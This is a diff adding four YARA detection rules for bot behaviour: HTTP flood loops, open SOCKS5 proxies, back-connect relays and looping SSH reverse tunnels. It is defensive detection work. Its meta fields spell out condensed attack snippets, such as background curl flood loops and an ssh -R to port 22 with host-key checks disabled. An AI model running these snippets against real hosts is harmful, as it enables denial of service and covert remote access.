@@ -2914,3 +2914,116 @@ rule bot_ruby_http_c2_poll : bot
         filesize < 512KB and not hs_doc_file and $lp and $sl and
         for any i in (1..#r) : ( $g in (@r[i] - 600 .. @r[i]) and $p in (@r[i] - 800 .. @r[i] + 800) )
 }
+
+/* An HTTP flood: many workers (threads, processes, background subshells,
+ * requests fired in a loop on a timer), each sending requests without end
+ * to a target, with a random cache-buster or a held-open body, errors
+ * swallowed and answers thrown away. A load test runs a fixed number of
+ * requests and measures them; a status poller sleeps between single
+ * requests. */
+rule bot_http_flood_workers : bot
+{
+    meta:
+        description = "HTTP flood: endless request loops in many workers (threads, background subshells, timers) with random cache-busters, answers discarded"
+        severity = "high"
+        technique = "def h(): while True: urlopen(Request(url + '?' + rnd, headers={'User-Agent': choice(uas)})) except: pass; 400 x Thread(target=h) | for i in $(seq 1 $n); do ( while :; do curl -s -o /dev/null \"$t/?r=$RANDOM\"; done ) & done | setInterval(() => { for (i < 200) http.request({path: p + Math.random(), headers: {'Content-Length': 100000}}).write('a') })"
+        seen = "train6"
+    strings:
+        // Python: an endless loop whose body sends a request
+        $pl = /\bwhile\s{1,4}(True|1)\s{0,2}:/
+        $pr = /\b(urlopen|requests\.(get|post|head|request)|httpx\.(get|post|stream)|\.request\s{0,2}\(\s{0,2}['"](GET|POST|HEAD)['"])\s{0,2}\(?/
+        $prnd = /\brandom\.(choice|randint|random|getrandbits|choices)\s{0,2}\(|\bos\.urandom\s{0,2}\(|\buuid\.uuid4\s{0,2}\(|\bsecrets\.token_\w{1,10}\s{0,2}\(/
+        $pex = /\bexcept\b[^\n:]{0,40}:\s{0,4}(\n\s{0,16})?(pass|continue)\b/
+        $pw = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}range\s{0,2}\([^\n]{0,60}\)\s{0,2}:\s{0,4}(\n\s{0,16})?[\w.]{0,40}(Thread|Process)\s{0,2}\(\s{0,2}target\s{0,2}=/
+        // shell: a background subshell looping curl/wget with $RANDOM, started in a loop
+        $sh1 = /\(\s{0,2}while\s{1,4}(:|true)\s{0,2};\s{0,2}do\s[^\n]{0,300}\b(curl|wget)\s[^\n]{0,300}\$RANDOM[^\n]{0,200}\bdone\s{0,2}\)\s{0,2}&/
+        $sh2 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}(\$\(seq\s|\{1\.\.)/
+        // Node: requests fired in a counted loop on a timer or in an endless loop, randomised, errors dropped
+        $nt = /\bsetInterval\s{0,2}\(|\bwhile\s{0,2}\(\s{0,2}(true|1)\s{0,2}\)/
+        $nf = /\bfor\s{0,2}\(\s{0,2}(let|var)\s{1,4}\w{1,10}\s{0,2}=\s{0,2}0\s{0,2};\s{0,2}\w{1,10}\s{0,2}<\s{0,2}[\w.]{1,30}\s{0,2};/
+        $nr = /\bhttps?\s{0,2}\.\s{0,2}(request|get)\s{0,2}\(/
+        $nrnd = "Math.random()" ascii
+        $ne = /\.on\s{0,2}\(\s{0,2}['"]error['"]\s{0,2},\s{0,2}(\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}=>\s{0,2}\{\s{0,2}\}|\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}=>\s{0,2}(null|undefined|0)|function\s{0,2}\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}\{\s{0,2}\})/
+    condition:
+        filesize < 256KB and (not hs_doc_file or hs_node_code) and (
+            (hs_lang_python and $pw and $pex and
+             for any i in (1..#pl) : ( $pr in (@pl[i] .. @pl[i] + 500) and $prnd in (@pl[i] .. @pl[i] + 500) ))
+            or (hs_lang_shell and $sh1 and $sh2 and @sh2[1] < @sh1[#sh1])
+            or (hs_node_code and $nrnd and $ne and
+                for any i in (1..#nt) : ( for any j in (1..#nf) : ( @nf[j] > @nt[i] and @nf[j] < @nt[i] + 200 and
+                    $nr in (@nf[j] .. @nf[j] + 300) and $nrnd in (@nf[j] .. @nf[j] + 500) ) ))
+        )
+}
+
+/* An open SOCKS5 proxy: a listening socket that answers the greeting with
+ * "no authentication" (05 00), connects wherever the client asks (the
+ * address read from the request, not a fixed upstream) and relays. It lets
+ * anyone send mail and attacks from the host. */
+rule bot_socks_open_relay : bot
+{
+    meta:
+        description = "Script running an open SOCKS5 proxy: listens, answers 'no authentication', connects to the address the client sends and relays"
+        severity = "high"
+        technique = "srv.listen(); c.sendall(b'\\x05\\x00'); addr = inet_ntoa(c.recv(4)); r = create_connection((addr, port)); select relay | net.createServer(c => { c.write(Buffer.from([5, 0])); net.connect(port, host, () => { c.pipe(up); up.pipe(c) }) })"
+        seen = "train6"
+    strings:
+        $l1 = /\.listen\s{0,2}\(|Listen\s{0,4}=>|\bnet\s{0,2}\.\s{0,2}createServer\s{0,2}\(|\bTCPServer\s{0,2}\.\s{0,2}new\b/
+        $v1 = /\\x05\\x00['"]/
+        $v2 = /Buffer\.from\s{0,2}\(\s{0,2}\[\s{0,2}(5|0x0?5)\s{0,2},\s{0,2}(0|0x0?0)\s{0,2}\]/
+        $v3 = /\bpack\s{0,2}\(\s{0,2}['"]C2['"]\s{0,2},\s{0,2}(5|0x05)\s{0,2},\s{0,2}(0|0x00)\s{0,2}\)|\bchr\s{0,2}\(\s{0,2}5\s{0,2}\)\s{0,2}\.\s{0,2}chr\s{0,2}\(\s{0,2}0\s{0,2}\)/
+        // the far end is what the client asked for: a variable address and port
+        $c1 = /\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}[a-z_]\w{0,20}\s{0,2}\)/
+        $c2 = /\bnet\s{0,2}\.\s{0,2}(connect|createConnection)\s{0,2}\(\s{0,2}[a-z_$][\w$]{0,20}\s{0,2},\s{0,2}[a-z_$][\w$]{0,20}\s{0,2}[,)]/
+        $c3 = /PeerAddr\s{0,4}=>\s{0,4}\$\w{1,30}/
+        $c4 = /\.connect\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}[a-z_]\w{0,20}\s{0,2}\)\s{0,2}\)/
+        // the relay
+        $r1 = /\bselect\.select\s{0,2}\(|IO::Select|\.pipe\s{0,2}\(\s{0,2}[a-z_$][\w$]{0,20}\s{0,2}\)|\bthreading\.Thread\s{0,2}\(|\bfork\b/
+    condition:
+        filesize < 512KB and (not hs_doc_file or hs_node_code) and $l1 and any of ($v*) and any of ($c*) and $r1
+}
+
+/* A relay steered from outside: a control connection sends "host:port",
+ * the script connects there and to its controller again, and copies bytes
+ * between the two (a back-connect proxy: the victim host carries the
+ * controller's traffic, no port opened on it). */
+rule bot_backconnect_proxy_relay : bot
+{
+    meta:
+        description = "Back-connect proxy: targets read from a control connection, a connection opened to each and relayed to the controller"
+        severity = "high"
+        technique = "while (my $t = <$ctl>) { ($h, $p) = split /:/, $t; $up = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p); $dn = IO::Socket::INET->new(PeerAddr => C2); IO::Select sysread/syswrite }"
+        seen = "train6"
+    strings:
+        $rd = /\bwhile\s{0,2}\(\s{0,2}(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}<\s{0,2}\$\w{1,30}\s{0,2}>|\.recv\s{0,2}\(\s{0,2}\d{1,5}\s{0,2}\)/
+        $sp = /\bsplit\s{0,2}\(?\s{0,2}\/:\/|\.split\s{0,2}\(\s{0,2}['"]:['"]/
+        $up1 = /PeerAddr\s{0,4}=>\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}PeerPort\s{0,4}=>\s{0,4}\$\w{1,30}/
+        $up2 = /\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}int\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2}\)\s{0,2}\)/
+        $ctl = /PeerAddr\s{0,4}=>\s{0,4}['"][0-9a-zA-Z.-]{3,80}['"]|\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}['"][0-9a-zA-Z.-]{3,80}['"]/
+        $sel = /IO::Select|\bselect\.select\s{0,2}\(|\bselectors\./
+        $cp = /\bsyswrite\s{0,2}\(|\.sendall\s{0,2}\(/
+    condition:
+        filesize < 256KB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
+        $rd and $sp and any of ($up*) and #ctl >= 1 and $sel and $cp and
+        for any i in (1..#sp) : ( for any of ($up*) : ( $ in (@sp[i] .. @sp[i] + 300) ) )
+}
+
+/* An SSH tunnel kept up by a loop that publishes this host's sshd on the
+ * far side (-R on all addresses to port 22) or opens a SOCKS hop (-D)
+ * together with a remote forward, without checking the far host's key: a
+ * way in for someone else. A developer's tunnel forwards a local port to a
+ * database (-L) and checks the host key. */
+rule bot_ssh_reverse_tunnel_loop : bot
+{
+    meta:
+        description = "SSH reverse tunnel kept alive in a loop: the local sshd published on a remote host (-R to :22) or a remote forward with a SOCKS hop (-D), host keys unchecked"
+        severity = "high"
+        technique = "while true; do ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:20000:localhost:22 -D 127.0.0.1:20001 -i ~/.ssh/.k u@H; sleep 20; done"
+        seen = "train6"
+    strings:
+        $r22 = /\bssh\s[^\n]{0,300}\s-R\s{0,2}['"]?((0\.0\.0\.0|\*|\[::\])?:)?\d{2,5}:(localhost|127\.0\.0\.1|\[::1\]):22\b/
+        $rd = /\bssh\s[^\n]{0,300}(\s-R\s[^\n]{0,200}\s-D\s|\s-D\s[^\n]{0,200}\s-R\s)/
+        $nk = /StrictHostKeyChecking\s{0,2}=\s{0,2}no\b/
+        $lp = /\b(while\s{1,4}(true|:)|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b|\bautossh\s/
+    condition:
+        filesize < 128KB and not hs_doc_file and (any of ($r22, $rd)) and $nk and $lp
+}
